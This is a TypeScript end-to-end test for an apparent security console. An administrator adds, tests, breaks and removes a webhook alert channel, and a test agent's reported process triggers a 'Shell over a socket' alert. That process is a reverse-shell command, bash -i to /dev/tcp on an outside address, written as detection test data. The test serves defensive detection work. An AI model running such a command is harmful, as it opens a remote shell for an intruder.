/** An administrator adds a channel in the browser, tries it, and an alert of an agent arrives at a real receiver. */
import assert from 'node:assert/strict'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { test } from 'node:test'
import { enrolAgent, TestAgent } from '../../apps/server/src/testing/test-agent.ts'
import { startTestServer } from '../../apps/server/src/testing/test-server.ts'
import { axeFindings } from './parts/axe.ts'
import { firstSignIn, openBrowser } from './parts/browser.ts'

test('a channel is added, tried, fails visibly, is mended and removed', async (t) => {
  const posted: string[] = []
  let status = 200
  const receiver = createServer((request, response) => {
    let body = ''
    request.on('data', (chunk) => {
      body += chunk
    })
    request.on('end', () => {
      posted.push(body)
      response.writeHead(status).end()
    })
  })
  await new Promise<void>((resolve) => receiver.listen(0, '127.0.0.1', resolve))
  const shared = await startTestServer()
  const browser = await openBrowser()
  t.after(async () => {
    await browser.close()
    await shared.end()
    receiver.close()
  })
  const page = browser.pages()[0] ?? (await browser.newPage())
  await firstSignIn(page, shared.server.consoleUrl, shared.server.firstUser?.password ?? '')
  await page.goto(`${shared.server.consoleUrl}/settings/notifications`)
  await page.getByText('No channels yet').waitFor()
  assert.deepEqual(await axeFindings(page), [])

  await page.getByRole('button', { name: 'Add channel' }).click()
  const form = page.getByRole('dialog')
  await form.getByLabel('Name', { exact: false }).first().fill('Ticket system')
  await form.getByRole('textbox', { name: 'Kind' }).click()
  await page.getByRole('option', { name: 'Webhook' }).click()
  await form.getByLabel('Webhook URL').fill(`http://127.0.0.1:${(receiver.address() as AddressInfo).port}/alerts`)
  assert.deepEqual(await axeFindings(page), [])
  await form.getByRole('button', { name: 'Add channel' }).click()
  const row = page.getByRole('row', { name: /Ticket system/ })
  await row.getByRole('button', { name: 'Send test' }).click()
  // Loopback is not a public address: the refusal says what to do.
  await row.getByRole('status').getByText('Allow private addresses').waitFor()
  assert.equal(posted.length, 0)

  await row.getByRole('button', { name: 'Ticket system' }).click()
  await form.getByLabel('Allow private addresses').check({ force: true })
  await form.getByRole('button', { name: 'Save' }).click()
  await row.getByRole('button', { name: 'Send test' }).click()
  await row.getByText('The test message got through').waitFor()
  assert.equal(JSON.parse(posted[0] ?? '{}').type, 'rampart.test')

  const agent = new TestAgent(await enrolAgent(shared.server.createEnrolmentToken().token))
  await agent.connect()
  await agent.deliver(1, [agent.started(1, 'bash -i >& /dev/tcp/198.51.100.1/1')])
  for (let tries = 0; posted.length < 2 && tries < 200; tries++) await new Promise((resolve) => setTimeout(resolve, 50))
  assert.equal(JSON.parse(posted[1] ?? '{}').data.alerts[0].title, 'Shell over a socket')

  status = 503
  await row.getByRole('button', { name: 'Send test' }).click()
  await row.getByText('Messages do not get through').waitFor()
  assert.deepEqual(await axeFindings(page), [])
  await row.getByRole('button', { name: 'Messages' }).click()
  await page.getByRole('dialog').getByText('answered 503').waitFor()
  assert.deepEqual(await axeFindings(page), [])
  await page.keyboard.press('Escape')

  await row.getByRole('button', { name: 'Remove' }).click()
  await page.getByRole('dialog').getByRole('button', { name: 'Remove channel' }).click()
  await page.getByText('No channels yet').waitFor()
  agent.cut()
})
